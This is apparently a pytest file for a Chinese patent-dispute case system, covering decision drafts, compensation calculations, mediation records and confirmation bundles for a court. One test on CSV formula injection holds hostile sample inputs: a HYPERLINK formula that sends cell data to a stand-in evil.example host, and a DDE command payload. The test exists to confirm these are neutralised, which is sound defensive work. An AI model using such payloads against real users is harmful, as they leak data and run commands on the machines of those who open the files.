"""Over the API: a decision drafted before it is issued, the compensation worksheet, judicial
confirmation followed to the court's ruling, and the confirmation bundle for the court — with the
bad input of issue 14 refused and nothing changed."""

import hashlib
import io
import json
import re
import subprocess
import zipfile

import pytest

from caseflow.extensions import db
from caseflow.notices.models import Notice
from tests.api.test_cases_adjudication import DECISION, Flow, local, open_adjudication
from tests.api.test_cases_procedures import open_via_api
from tests.engine.helpers import *  # noqa: F403  (the case fixtures)

NOTE = "合议组评议后一致认定构成侵权"


def _pdf_text(app, notice_id) -> str:
    import os

    notice = db.session.get(Notice, notice_id)
    path = os.path.join(app.config["CASEFLOW_STORAGE"], notice.file_path)
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", path, "-"], capture_output=True, text=True)
    # Whitespace out (Chinese lines wrap anywhere), and the page numbers "— 2 —" between pages.
    return re.sub(r"—\d+—", "", re.sub(r"\s+", "", out.stdout))


def _under_review(worker, chief):
    case = open_adjudication(worker, local("2026-03-02", "09:00"))
    w, c = Flow(worker, case["id"]), Flow(chief, case["id"])
    w.fire("accept", local("2026-03-03"), data={"handlers": ["李一", "王二", "张三"]})
    w.fire("serve", local("2026-03-04"))
    w.fire("receive_answer", local("2026-03-10"))
    return case["id"], w, c


def test_a_decision_is_drafted_previewed_then_issued_with_its_reasoning(app, api, staff):
    worker, chief = api(staff["ZS"]["caseworker"]), api(staff["ZS"]["supervisor"])
    case_id, w, c = _under_review(worker, chief)

    # Without findings, reasoning and an item the decision is refused, and nothing changes.
    before = worker.get(f"/api/v1/cases/{case_id}").get_json()
    refused = c.fire("decide", local("2026-04-01"), 422, data={"outcome": "infringing"})
    assert set(refused["error"]["fields"]) == {"findings", "reasoning", "items"}
    refused = c.fire("decide", local("2026-04-01"), 422, data={**DECISION, "items": []})
    assert set(refused["error"]["fields"]) == {"items"}
    after = worker.get(f"/api/v1/cases/{case_id}").get_json()
    assert after["version"] == before["version"] and after["state"] == "under_review"

    drafts = worker.get(f"/api/v1/cases/{case_id}/drafts").get_json()
    assert "decision" in drafts["open"] and "settlement" in drafts["open"]
    names = [f["name"] for f in drafts["drafts"]["decision"]["fields"]]
    assert names == ["findings", "reasoning", "items"]

    draft = {
        "findings": "2026年1月，被请求人在其网店销售“晶彩”牌吸顶灯。\n该产品散热结构具备涉案专利权利要求1的全部技术特征",
        "reasoning": "被请求人未经许可，为生产经营目的销售侵权产品，构成侵权。",
        "items": ["被请求人立即停止销售侵权产品", "被请求人销毁库存侵权产品。"],
    }
    response = worker.put(f"/api/v1/cases/{case_id}/drafts/decision", json=draft)
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["draft"]["items"] == draft["items"]

    # The compensation worksheet shows beside the draft as a reference, never on the notice.
    worksheet = {"basis": "statutory", "statutory_amount": 500000}
    assert worker.put(f"/api/v1/cases/{case_id}/compensation", json=worksheet).status_code == 200
    html = worker.get(f"/api/v1/cases/{case_id}/drafts/decision/preview?format=html")
    assert html.status_code == 200 and "草稿" in html.text and "经审理查明" in html.text
    assert "赔偿数额参考" in html.text and "人民币伍拾万元整" in html.text
    pdf = worker.get(f"/api/v1/cases/{case_id}/drafts/decision/preview")
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")

    # Issued from the draft: the trigger's data leaves the drafted fields out; the note is
    # internal and stays out of the PDF.
    case = c.fire("decide", local("2026-04-01"), data={"outcome": "infringing"}, note=NOTE)
    assert case["state"] == "decided"
    [decision] = [n for n in case["notices"] if n["kind"] == "decision"]
    text = _pdf_text(app, decision["id"])
    assert "经审理查明：2026年1月，被请求人在其网店销售" in text
    assert "本中心认为：被请求人未经许可" in text
    assert "一、被请求人立即停止销售侵权产品。二、被请求人销毁库存侵权产品。" in text
    # The period to sue counts from the party's receipt: as the law words it, with no date.
    assert "自收到本裁决书之日起十五日内依照" in text and "2026年4月16日" not in text
    assert NOTE not in text
    assert "赔偿数额参考" not in text and "人民币伍拾万元整" not in text

    # Once the step has fired the draft is the record: no more edits.
    locked = worker.put(f"/api/v1/cases/{case_id}/drafts/decision", json=draft)
    assert locked.status_code == 409


def test_bad_drafts_are_refused_and_change_nothing(api, staff):
    worker, chief = api(staff["ZS"]["caseworker"]), api(staff["ZS"]["supervisor"])
    case_id, _w, _c = _under_review(worker, chief)
    good = {"findings": "事实。", "reasoning": "理由。", "items": ["停止侵权。"]}
    assert worker.put(f"/api/v1/cases/{case_id}/drafts/decision", json=good).status_code == 200
    before = worker.get(f"/api/v1/cases/{case_id}").get_json()

    nul = worker.put(
        f"/api/v1/cases/{case_id}/drafts/decision", json={**good, "findings": "a\x00b"}
    )
    assert nul.status_code == 400 and "NUL" in nul.get_json()["error"]["message"]
    long = worker.put(
        f"/api/v1/cases/{case_id}/drafts/decision", json={**good, "reasoning": "理" * 50_001}
    )
    assert long.status_code == 422 and "reasoning" in long.get_json()["error"]["fields"]
    long_item = worker.put(
        f"/api/v1/cases/{case_id}/drafts/decision", json={**good, "items": ["项" * 50_001]}
    )
    assert long_item.status_code == 422
    wrong = worker.put(f"/api/v1/cases/{case_id}/drafts/decision", json={**good, "items": "一项"})
    assert wrong.status_code == 422 and "items" in wrong.get_json()["error"]["fields"]
    unknown = worker.put(f"/api/v1/cases/{case_id}/drafts/agreement", json=good)
    assert unknown.status_code == 422
    viewer = api(staff["ZS"]["viewer"]).put(f"/api/v1/cases/{case_id}/drafts/decision", json=good)
    assert viewer.status_code == 403
    other_unit = api(staff["PD"]["caseworker"])
    # Another unit's case answers like a missing one.
    assert other_unit.put(f"/api/v1/cases/{case_id}/drafts/decision", json=good).status_code == 404

    after = worker.get(f"/api/v1/cases/{case_id}").get_json()
    assert after["data"]["drafts"]["decision"]["findings"] == "事实。"
    assert after["events"] == before["events"]
    # The trigger's own data is held to the same limits.
    refused = Flow(api(staff["ZS"]["supervisor"]), case_id).fire(
        "decide", local("2026-04-01"), 422, data={"findings": "实" * 50_001}
    )
    assert "findings" in refused["error"]["fields"]


def test_the_compensation_worksheet_and_its_bounds(api, staff):
    worker = api(staff["ZS"]["caseworker"])
    case = open_adjudication(worker, local("2026-03-02", "09:00"))
    url = f"/api/v1/cases/{case['id']}/compensation"
    response = worker.put(
        url, json={"basis": "actual_loss", "actual_loss": "480000", "costs": 20000}
    )
    assert response.status_code == 200, response.get_json()
    sheet = response.get_json()["compensation"]
    assert sheet["amount"] == "500000.00" and sheet["amount_capital"] == "人民币伍拾万元整"
    assert "实际损失" in sheet["why"]

    for body, field in (
        ({"basis": "statutory", "statutory_amount": 5_000_001}, "statutory_amount"),
        ({"basis": "licence_fee", "licence_fee": 1000, "licence_multiple": 6}, "licence_multiple"),
        ({"basis": "licence_fee", "licence_fee": 1000, "licence_multiple": 0}, "licence_multiple"),
        (
            {"basis": "actual_loss", "actual_loss": 1, "wilful": True, "punitive_multiple": 7},
            "punitive_multiple",
        ),
    ):
        refused = worker.put(url, json=body)
        assert refused.status_code == 422 and field in refused.get_json()["error"]["fields"]
    assert worker.get(url).get_json()["compensation"]["amount"] == "500000.00"  # unchanged

    intake = open_via_api(worker, workflow="intake", received_at=local("2026-03-02"))
    refused = worker.put(
        f"/api/v1/cases/{intake['id']}/compensation",
        json={"basis": "actual_loss", "actual_loss": 1},
    )
    assert refused.status_code == 422


def _agreed_mediation(worker, app=None):
    case = open_via_api(worker, workflow="mediation", received_at=local("2026-03-30"))
    flow = Flow(worker, case["id"])
    flow.fire("consult_respondent", local("2026-03-31"))
    flow.fire("record_consent", local("2026-04-02"))
    response = worker.post(
        f"/api/v1/cases/{case['id']}/mediation-sessions",
        json={
            "held_on": "2026-04-08",
            "attendees": ["张三", "李四", "调解员王五"],
            "outcome": "双方就赔偿数额达成初步一致",
        },
    )
    assert response.status_code == 201, response.get_json()
    worker.put(
        f"/api/v1/cases/{case['id']}/drafts/agreement",
        json={"terms": ["被申请人于2026年5月1日前支付赔偿金人民币伍万元", "申请人放弃其他请求"]},
    )
    case = flow.fire("reach_agreement", local("2026-04-10"))
    return case, flow


def test_the_agreement_states_the_period_to_apply_as_its_rule_and_has_a_line_for_each(app, api, staff):
    worker = api(staff["PD"]["caseworker"])
    case, _flow = _agreed_mediation(worker)
    [agreement] = [n for n in case["notices"] if n["kind"] == "agreement"]
    text = _pdf_text(app, agreement["id"])
    assert "一、被申请人于2026年5月1日前支付赔偿金人民币伍万元。" in text
    # The 30 days run from the agreement's taking effect, at the signatures below (人民调解法
    # arts 29, 33): unknown when it is printed, so the rule and no date.
    assert "自本协议生效之日起三十日内，共同向人民法院申请司法确认" in text
    assert "2026年5月11日" not in text and "即2026年" not in text
    # The parties as the procedure and the 调解意见征询函 name them (procedures.md §4).
    assert "请求人（签字或盖章）" in text and "被请求人（签字或盖章）" in text
    assert "申请人" not in text.replace("一、被申请人于", "").replace("申请人放弃", "")
    assert "调解员（签字）" in text
    assert agreement["status"] == "issued"


def test_sessions_and_confirmation_refuse_bad_input(api, staff):
    worker = api(staff["PD"]["caseworker"])
    case, flow = _agreed_mediation(worker)
    url = f"/api/v1/cases/{case['id']}/mediation-sessions"
    assert (
        worker.post(
            url, json={"held_on": "2030-01-01", "attendees": ["甲"], "outcome": "x"}
        ).status_code
        == 422
    )
    assert (
        worker.post(
            url, json={"held_on": "2026-04-09", "attendees": [], "outcome": "x"}
        ).status_code
        == 422
    )
    assert len(worker.get(url).get_json()["sessions"]) == 1
    refused = flow.fire("apply_confirmation", local("2026-04-20"), 422)
    assert "court" in refused["error"]["fields"]
    flow.fire("apply_confirmation", local("2026-04-20"), data={"court": "上海市浦东新区人民法院"})
    refused = flow.fire(
        "record_confirmation_refusal", local("2026-04-30"), 422, data={"reason": "x"}
    )
    assert "ruling_number" in refused["error"]["fields"]
    case = flow.fire(
        "record_confirmation_refusal",
        local("2026-04-30"),
        data={"ruling_number": "(2026)沪0115民特90号", "reason": "协议内容违反法律强制性规定"},
    )
    assert case["state"] == "confirmation_refused"


def test_no_confirmation_bundle_before_an_agreement(api, staff, client, login, make_user):
    """人民调解法 art 33: judicial confirmation is of an agreement. A mediation still asking the
    respondent, or declined, has none: no bundle link on its page, and 409 over the API."""
    worker = api(staff["PD"]["caseworker"])
    case = open_via_api(worker, workflow="mediation", received_at=local("2026-10-21"))
    flow = Flow(worker, case["id"])
    flow.fire("consult_respondent", local("2026-10-22"))
    login(make_user("caseworker", "PD"))
    page = client.get(f"/cases/{case['id']}")
    assert 'id="bundle-link"' not in page.text and "司法确认材料包" not in page.text
    flow.fire("record_refusal", local("2026-10-30"))
    refused = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle")
    assert refused.status_code == 409
    error = refused.get_json()["error"]
    assert error["code"] == "state_conflict" and "调解协议" in error["message"]
    english = worker.get(
        f"/api/v1/cases/{case['id']}/confirmation-bundle", headers={"Accept-Language": "en"}
    )
    assert "agreement" in english.get_json()["error"]["message"]
    assert client.get(f"/cases/{case['id']}/confirmation-bundle").status_code == 404


def test_the_court_case_number_may_come_with_the_courts_ruling(
    api, staff, client, login, make_user
):
    """procedures.md §4: 法院案号 is optional at filing, being often known only once the court
    has accepted; it is recorded with the ruling, confirmed or refused, and the case page and the
    bundle's manifest show it."""
    worker = api(staff["PD"]["caseworker"])
    for trigger, state in (
        ("record_confirmation", "confirmed"),
        ("record_confirmation_refusal", "confirmation_refused"),
    ):
        case, flow = _agreed_mediation(worker)
        flow.fire("apply_confirmation", local("2026-04-20"), data={"court": "上海市浦东新区人民法院"})
        case = flow.fire(
            trigger,
            local("2026-04-30"),
            data={
                "ruling_number": "(2026)沪0115民特90号",
                "court_case_number": "(2026)沪0115民特88号",
            },
        )
        assert case["state"] == state
        assert case["data"]["court_case_number"] == "(2026)沪0115民特88号"
        bundle = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle")
        manifest = json.loads(zipfile.ZipFile(io.BytesIO(bundle.data)).read("manifest.json"))
        assert manifest["court_case_number"] == "(2026)沪0115民特88号"
    login(make_user("caseworker", "PD"))
    page = client.get(f"/cases/{case['id']}")
    assert "法院案号：(2026)沪0115民特88号" in page.text


def test_sessions_and_the_worksheet_are_written_only_while_the_mediation_runs(api, staff):
    """A session is of the mediation, which begins with the respondent's consent (P13); a case
    that has ended (here declined) takes no session and no new worksheet. Nothing changes."""
    worker = api(staff["PD"]["caseworker"])
    case = open_via_api(worker, workflow="mediation", received_at=local("2026-10-21"))
    flow = Flow(worker, case["id"])
    sessions = f"/api/v1/cases/{case['id']}/mediation-sessions"
    worksheet = f"/api/v1/cases/{case['id']}/compensation"
    session = {"held_on": "2026-10-23", "attendees": ["张三"], "outcome": "双方到场"}
    flow.fire("consult_respondent", local("2026-10-22"))
    early = worker.post(sessions, json=session)
    assert early.status_code == 409 and early.get_json()["error"]["code"] == "state_conflict"
    flow.fire("record_consent", local("2026-11-05"))
    before = worker.post(sessions, json={**session, "held_on": "2026-11-04"})
    assert before.status_code == 422
    assert "2026年11月5日" in before.get_json()["error"]["fields"]["held_on"]
    assert worker.post(sessions, json={**session, "held_on": "2026-11-05"}).status_code == 201

    declined = open_via_api(worker, workflow="mediation", received_at=local("2026-10-21"))
    Flow(worker, declined["id"]).fire("consult_respondent", local("2026-10-22"))
    Flow(worker, declined["id"]).fire("record_refusal", local("2026-10-30"))
    url = f"/api/v1/cases/{declined['id']}"
    refused = worker.post(f"{url}/mediation-sessions", json={**session, "held_on": "2026-11-30"})
    assert refused.status_code == 409 and "已办结" in refused.get_json()["error"]["message"]
    refused = worker.put(
        f"{url}/compensation", json={"basis": "statutory", "statutory_amount": 100000}
    )
    assert refused.status_code == 409 and refused.get_json()["error"]["code"] == "state_conflict"
    after = worker.get(url).get_json()
    assert "mediation_sessions" not in after["data"] and "compensation" not in after["data"]
    assert worker.get(worksheet).status_code == 200


def test_the_confirmation_bundle_holds_every_file_with_matching_hashes(app, api, staff, client):
    from caseflow.cases.evidence import evidence_add
    from caseflow.cases.models import Case

    worker = api(staff["PD"]["caseworker"])
    case, flow = _agreed_mediation(worker)
    row = db.session.get(Case, case["id"])
    evidence_add(
        case=row,
        actor=staff["PD"]["caseworker"],
        filename="协议签字页.pdf",
        content=b"%PDF-1.4 test",
    )
    evidence_add(
        case=row,
        actor=staff["PD"]["caseworker"],
        filename="photo.png",
        content=b"\x89PNG\r\n\x1a\n" + b"x" * 100,
    )
    flow.fire(
        "apply_confirmation",
        local("2026-04-20"),
        data={"court": "上海市浦东新区人民法院", "court_case_number": "(2026)沪0115民特88号"},
    )
    response = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert "confirmation-bundle.zip" in response.headers["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["court_case_number"] == "(2026)沪0115民特88号"
    listed = {f["path"] for f in manifest["files"]}
    assert listed == set(archive.namelist()) - {"manifest.json"}
    for entry in manifest["files"]:
        data = archive.read(entry["path"])
        assert hashlib.sha256(data).hexdigest() == entry["sha256"] and len(data) == entry["size"]
        if "recorded_sha256" in entry:
            assert entry["recorded_sha256"] == entry["sha256"]
    kinds = [f.get("kind") for f in manifest["files"]]
    assert kinds.count("evidence") == 2 and "audit_trail" in kinds and "mediation_sessions" in kinds
    notices = [f for f in manifest["files"] if f["kind"] == "notice"]
    assert {n["notice_kind"] for n in notices} == {
        "consent_request",
        "acceptance_notice",
        "agreement",
    }
    # Every PDF still verifies: the public page shows the fingerprint of the same bytes.
    for entry in notices:
        assert entry["path"].endswith(".pdf")
        page = client.get(f"/verify/{entry['verification_code']}")
        assert page.status_code == 200 and entry["sha256"] in page.text
    audit = archive.read("audit-trail.csv").decode("utf-8-sig")
    assert "reach_agreement" in audit and "apply_confirmation" in audit
    # Bundles are for mediation and adjudication cases, not for an intake.
    other = open_via_api(worker, workflow="intake", received_at=local("2026-03-02"))
    assert worker.get(f"/api/v1/cases/{other['id']}/confirmation-bundle").status_code == 422


@pytest.mark.slow
def test_the_bundle_csvs_show_a_formula_as_text(api, staff):
    """A name or an outcome typed as a formula (=HYPERLINK…, a DDE command) came out raw in
    mediation-sessions.csv, and a spreadsheet opening the court's bundle evaluated it. Every
    cell a spreadsheet would evaluate gets a leading apostrophe, as the XLSX exports do."""
    import csv

    worker = api(staff["PD"]["caseworker"])
    case, flow = _agreed_mediation(worker)
    link = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'
    response = worker.post(
        f"/api/v1/cases/{case['id']}/mediation-sessions",
        json={"held_on": "2026-04-09", "attendees": [link, "张三"], "outcome": "=cmd|' /C calc'!A0"},
    )
    assert response.status_code == 201, response.get_json()
    flow.fire("apply_confirmation", local("2026-04-20"), data={"court": "上海市浦东新区人民法院"})
    bundle = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle")
    archive = zipfile.ZipFile(io.BytesIO(bundle.data))
    for name in ("mediation-sessions.csv", "audit-trail.csv"):
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        for cell in (cell for row in rows for cell in row):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
    sessions = list(csv.reader(io.StringIO(archive.read("mediation-sessions.csv").decode("utf-8-sig"))))
    assert sessions[-1][1] == "'" + link + "、张三"
    assert sessions[-1][2] == "'=cmd|' /C calc'!A0"
    assert sessions[1][1] == "张三、李四、调解员王五"  # plain text is untouched


def test_a_bundle_with_200_mb_of_evidence_streams_with_flat_memory(app, api, staff):
    """20 files of 10 MB (the upload limit): the ZIP is read chunk by chunk while Python's
    allocations stay far below one file's size."""
    import os
    import tracemalloc

    from caseflow.cases.evidence import Evidence
    from caseflow.cases.models import Case

    worker = api(staff["PD"]["caseworker"])
    case, _flow = _agreed_mediation(worker)
    row = db.session.get(Case, case["id"])
    storage = app.config["CASEFLOW_STORAGE"]
    os.makedirs(os.path.join(storage, "evidence", row.id), exist_ok=True)
    block = os.urandom(1024 * 1024)
    digests = {}
    for i in range(20):
        relative = os.path.join("evidence", row.id, f"big{i}.png")
        digest = hashlib.sha256()
        with open(os.path.join(storage, relative), "wb") as handle:
            for j in range(10):
                chunk = bytes([i, j]) + block[2:]
                handle.write(chunk)
                digest.update(chunk)
        digests[f"big{i}.png"] = digest.hexdigest()
        db.session.add(
            Evidence(
                case_id=row.id,
                filename=f"big{i}.png",
                content_type="image/png",
                size=10 * 1024 * 1024,
                sha256=digest.hexdigest(),
                path=relative,
            )
        )
    db.session.commit()

    tracemalloc.start()
    response = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle", buffered=False)
    total = 0
    sink = open(os.path.join(storage, "bundle.zip"), "wb")  # noqa: SIM115
    for chunk in response.response:
        total += len(chunk)
        sink.write(chunk)
    sink.close()
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert total > 200 * 1024 * 1024
    print(f"bundle: {total / 1e6:.0f} MB streamed, peak Python allocation {peak / 1e6:.2f} MB")
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    with zipfile.ZipFile(os.path.join(storage, "bundle.zip")) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        by_name = {
            f.get("filename"): f["sha256"] for f in manifest["files"] if f["kind"] == "evidence"
        }
        assert by_name == digests


def test_the_court_ruling_clock_alerts_the_caseworker_and_never_escalates(api, staff):
    """A watch clock: due-soon and overdue alerts to chase the court, no escalation to the
    unit's head, and not on the dashboard's list of the centre's late clocks."""
    from datetime import datetime

    from caseflow.alerts.models import Alert
    from caseflow.alerts.services import sla_sweep
    from caseflow.clocks.models import Clock
    from caseflow.web.selectors import soonest_clocks

    worker = api(staff["PD"]["caseworker"])
    case, flow = _agreed_mediation(worker)
    flow.fire("apply_confirmation", local("2026-04-20"), data={"court": "上海市浦东新区人民法院"})
    clock = db.session.scalar(
        db.select(Clock).where(Clock.case_id == case["id"], Clock.name == "court_ruling")
    )
    # Far past the due date (05-06) and past any escalation moment.
    sla_sweep(now=datetime.fromisoformat(local("2026-06-30")))
    levels = set(db.session.scalars(db.select(Alert.level).where(Alert.clock_id == clock.id)))
    assert levels == {"due_soon", "overdue"}
    # The dashboard's overdue list (the soonest-due running clocks) never shows it.
    late = soonest_clocks(
        staff["PD"]["supervisor"], due_from=None, due_to=datetime.fromisoformat(local("2026-06-30"))
    )
    assert all(c.name != "court_ruling" for c, _case in late)


def test_the_worksheet_takes_the_specs_multiple_and_answers_amount_and_range_on_top(api, staff):
    """procedures.md §4: the licence-fee basis is ``licence_fee × multiple``; the answer adds
    ``amount`` and ``range`` (numbers) beside the worksheet's fields, the nested ``compensation``
    object kept for older clients."""
    worker = api(staff["ZS"]["caseworker"])
    case = open_adjudication(worker, local("2026-03-02", "09:00"))
    url = f"/api/v1/cases/{case['id']}/compensation"
    body = {
        "basis": "licence_fee",
        "licence_fee": 100000,
        "multiple": 3,
        "wilful": True,
        "punitive_multiple": 2,
        "costs": 5000,
    }
    response = worker.put(url, json=body)
    assert response.status_code == 200, response.get_json()
    answer = response.get_json()
    # 100,000 × 3 × 2 + 5,000; the range is 1–5 × the fee, × 2, + costs.
    assert answer["amount"] == 605000 and isinstance(answer["amount"], int)
    assert answer["range"] == [205000, 1005000]
    assert answer["basis"] == "licence_fee" and answer["licence_fee"] == 100000
    assert answer["multiple"] == 3 and answer["punitive_multiple"] == 2
    assert answer["wilful"] is True and answer["costs"] == 5000
    assert answer["compensation"]["amount"] == "605000.00"  # the older shape, unchanged
    assert answer["compensation"]["figures"]["licence_multiple"] == "3"
    shown = worker.get(url).get_json()
    assert shown["amount"] == 605000 and shown["range"] == [205000, 1005000]
    assert shown["compensation"] == answer["compensation"]

    # licence_multiple stays an alias; the same value twice is fine, two values are not.
    alias = worker.put(url, json={"basis": "licence_fee", "licence_fee": "1000.5", "licence_multiple": 2})
    assert alias.status_code == 200 and alias.get_json()["amount"] == 2001
    fen = worker.put(url, json={"basis": "licence_fee", "licence_fee": "1000.25", "multiple": 1})
    assert fen.get_json()["amount"] == 1000.25 and fen.get_json()["multiple"] == 1
    same = worker.put(url, json={"basis": "licence_fee", "licence_fee": 1, "multiple": 2, "licence_multiple": "2"})
    assert same.status_code == 200 and same.get_json()["amount"] == 2
    both = worker.put(url, json={"basis": "licence_fee", "licence_fee": 1, "multiple": 2, "licence_multiple": 3})
    assert both.status_code == 422 and "multiple" in both.get_json()["error"]["fields"]
    wrong = worker.put(url, json={"basis": "licence_fee", "licence_fee": 1, "multiple": 6})
    assert wrong.status_code == 422 and "multiple" in wrong.get_json()["error"]["fields"]
    stray = worker.put(url, json={"basis": "actual_loss", "actual_loss": 1, "multiple": 2})
    assert stray.status_code == 422 and "multiple" in stray.get_json()["error"]["fields"]
    assert worker.get(url).get_json()["amount"] == 2  # the refused ones changed nothing

    # No range where the basis gives none; the case's data keeps the stored worksheet.
    plain = worker.put(url, json={"basis": "actual_loss", "actual_loss": 480000})
    assert plain.get_json()["range"] is None and plain.get_json()["actual_loss"] == 480000
    stored = worker.get(f"/api/v1/cases/{case['id']}").get_json()["data"]["compensation"]
    assert stored == plain.get_json()["compensation"]
